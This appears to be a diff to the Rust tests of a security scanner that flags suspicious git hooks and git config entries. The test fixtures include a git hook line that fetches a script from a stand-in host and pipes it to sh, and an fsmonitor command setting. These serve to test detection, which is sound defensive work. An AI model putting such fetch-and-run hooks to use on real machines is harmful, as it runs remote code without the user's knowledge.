@@ -73,7 +73,13 @@ fn audited(os: Os, files: &[(String, String)]) -> BTreeMap<String, Vec<Finding>>
     let lay = |home: &Path, path: &str, text: &str| {
         let whole = home.join(path);
         let free = !whole.exists() && fs::create_dir_all(whole.parent().unwrap()).is_ok();
-        free && fs::write(whole, text).is_ok()
+        let written = free && fs::write(&whole, text).is_ok();
+        #[cfg(unix)]
+        if written && path.contains("/.git/hooks/") && !path.ends_with("-off") {
+            use std::os::unix::fs::PermissionsExt as _;
+            fs::set_permissions(&whole, fs::Permissions::from_mode(0o755)).unwrap();
+        }
+        written
     };
     for (path, text) in files {
         if !homes.iter().any(|home| lay(home.path(), path, text)) {
@@ -224,6 +230,13 @@ fn what_packages_and_git_run_is_told_when_it_is_odd() {
     assert_eq!(judged("work/app/.git/hooks/post-checkout.sample", "#!/bin/sh\nexit 0\n"), []);
     let fetching = judged(hook, "#!/bin/sh\ncurl -s https://x.example/i | sh\n");
     assert!(fetching.contains(&("agent-hook-fetch-and-run".into(), Severity::Critical)), "{fetching:?}");
+    // git passes over what nobody may run.
+    if cfg!(unix) {
+        assert_eq!(
+            judged("work/app/.git/hooks/post-checkout-off", "#!/bin/sh\ncurl -s https://x.example/i | sh\n"),
+            []
+        );
+    }
 
     let config = "work/app/.git/config";
     assert_eq!(one(config, "[core]\n\tfsmonitor = ./x.sh\n"), ("git-config-command".into(), Severity::Low));
